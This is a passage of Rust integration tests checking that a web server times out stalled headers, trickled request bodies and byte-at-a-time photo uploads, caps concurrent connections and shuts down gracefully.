    let head = |address: &str| format!("GET / HTTP/1.1\r\nHost: {address}\r\n");
    let trickle = |address: &str| {
        format!(
            "POST /api/join/join HTTP/1.1\r\nHost: {address}\r\nContent-Type: \
             application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\ncode=ABC"
        )
    };
    let short = ConnectionLimits {
        header_read: Duration::from_secs(1),
        body_idle: Duration::from_secs(1),
        ..ConnectionLimits::default()
    };
    let (base, _stop, _task) = serve_limited(db.open().await, |_| {}, short).await;
    let address = base.trim_start_matches("http://");
    let mut loris = stalled(&base, &head(address)).await;
    assert_eq!(
        ended_within(&mut loris, Duration::from_secs(5)).await,
        Some(String::new()),
        "headers that never end are cut off, without an answer"
    );
    let mut kept = stalled(
        &base,
        &format!("GET /healthz HTTP/1.1\r\nHost: {address}\r\n\r\n"),
    )
    .await;
    let answer = ended_within(&mut kept, Duration::from_secs(5))
        .await
        .expect("a kept-alive connection that sends nothing more is closed");
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let mut stopped_body = stalled(&base, &trickle(address)).await;
    let answer = ended_within(&mut stopped_body, Duration::from_secs(5))
        .await
        .expect("a body that stops is cut off");
    assert!(
        answer.starts_with("HTTP/1.1 400") && answer.ends_with("\"BadRequest\""),
        "a body that stops is refused: {answer}"
    );

    // Patient deadlines and a cap of three connections: two stalled ones leave room for
    // one more request.
    let patient = ConnectionLimits {
        header_read: Duration::from_secs(60),
        body_idle: Duration::from_secs(60),
        max_connections: 3,
        // Long enough that the check below falls inside it on a loaded machine.
        shutdown_grace: Duration::from_secs(3),
    };
    let (base, stop, task) = serve_limited(db.open().await, |_| {}, patient).await;
    let address = base.trim_start_matches("http://").to_string();
    let held = [
        stalled(&base, &head(&address)).await,
        stalled(&base, &trickle(&address)).await,
    ];
    let health = format!("{base}/healthz");
    let answered =
        |c: Client, url: String| async move { c.get(url).send().await.map(|r| r.status()) };
    let third = support::plain_client();
    assert_eq!(
        answered(third.clone(), health.clone()).await.unwrap(),
        StatusCode::OK
    );
    let queued = tokio::spawn(answered(support::plain_client(), health.clone()));
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(
        !queued.is_finished(),
        "a fourth connection waits while three are open"
    );
    drop(third);
    assert_eq!(
        tokio::time::timeout(Duration::from_secs(5), queued)
            .await
            .expect("a closed connection lets the next one in")
            .unwrap()
            .unwrap(),
        StatusCode::OK
    );

    // A request whose body is still coming when the server stops: the shutdown waits
    // for it (the grace is 3 s), then closes it.
    drop(held);
    let _open = stalled(&base, &trickle(&address)).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let _ = stop.send(());
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        !task.is_finished(),
        "the shutdown waits for a request in progress"
    );
    assert!(
        tokio::time::timeout(Duration::from_secs(10), task)
            .await
            .is_ok(),
        "the shutdown closes what is still open after its grace"
    );
}

/// Sends an upload's head and `start`, then one `trickle` byte every 200 ms (never a
/// pause the body's own 30 s limit would end); what the server answered, and when.
async fn trickled_upload(
    address: &str,
    head: &str,
    start: &[u8],
    trickle: u8,
) -> (String, Duration) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let started = Instant::now();
    let socket = tokio::net::TcpStream::connect(address).await.unwrap();
    let (mut reader, mut writer) = socket.into_split();
    writer.write_all(head.as_bytes()).await.unwrap();
    writer.write_all(start).await.unwrap();
    let trickling = tokio::spawn(async move {
        while writer.write_all(&[trickle]).await.is_ok() {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    });
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(15), async {
        let mut buf = [0u8; 4096];
        while !String::from_utf8_lossy(&answer).contains("UploadTooSlow") {
            match reader.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    trickling.abort();
    (
        String::from_utf8_lossy(&answer).into_owned(),
        started.elapsed(),
    )
}

/// A photo trickled a byte at a time, or a whole photo followed by a trickle of padding
/// where the next part would start, is cut off at the upload deadline with its own
/// error, instead of holding an upload slot for ever.
#[tokio::test]
async fn a_trickled_photo_is_cut_off_at_the_deadline() {
    let deadline = Duration::from_secs(2);
    let (_db, base, _stop, _task) = demo_server_with(|c| c.upload_deadline = deadline).await;
    let phone = client();
    let (board, cookie) = join(&phone, &base, "Treg").await;
    let (status, body) = post(&phone, &base, board, "insight", "Benker ved elva").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();
    let address = base.trim_start_matches("http://");
    let head = format!(
        "POST /api/photos/card HTTP/1.1\r\nHost: {address}\r\nAccept: application/json\r\n\
         Cookie: {cookie}\r\nContent-Type: multipart/form-data; boundary=X\r\n\
         Content-Length: 100000\r\n\r\n--X\r\n\
         Content-Disposition: form-data; name=\"card_id\"\r\n\r\n{}\r\n--X\r\n\
         Content-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\
         Content-Type: image/png\r\n\r\n",
        card.id
    );
    let mut whole_photo = support::fixture::png();
    whole_photo.extend_from_slice(b"\r\n--X");
    for (what, start, trickle) in [
        ("the photo's bytes", Vec::new(), 0xff),
        ("padding after the photo", whole_photo, b' '),
    ] {
        let (answer, took) = trickled_upload(address, &head, &start, trickle).await;
        assert!(
            answer.starts_with("HTTP/1.1 400") && answer.contains("\"UploadTooSlow\":2"),
            "{what}: {answer}"
        );
        assert!(
            took >= deadline,
            "{what}: cut off at the deadline, not before"
        );
    }
    // A photo sent at a normal pace still goes through.
    let (status, body) = support::fixture::upload(
        &base,
        Some(&cookie),
        "photos/card",
        "card_id",
        &card.id.to_string(),
        support::fixture::png(),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}
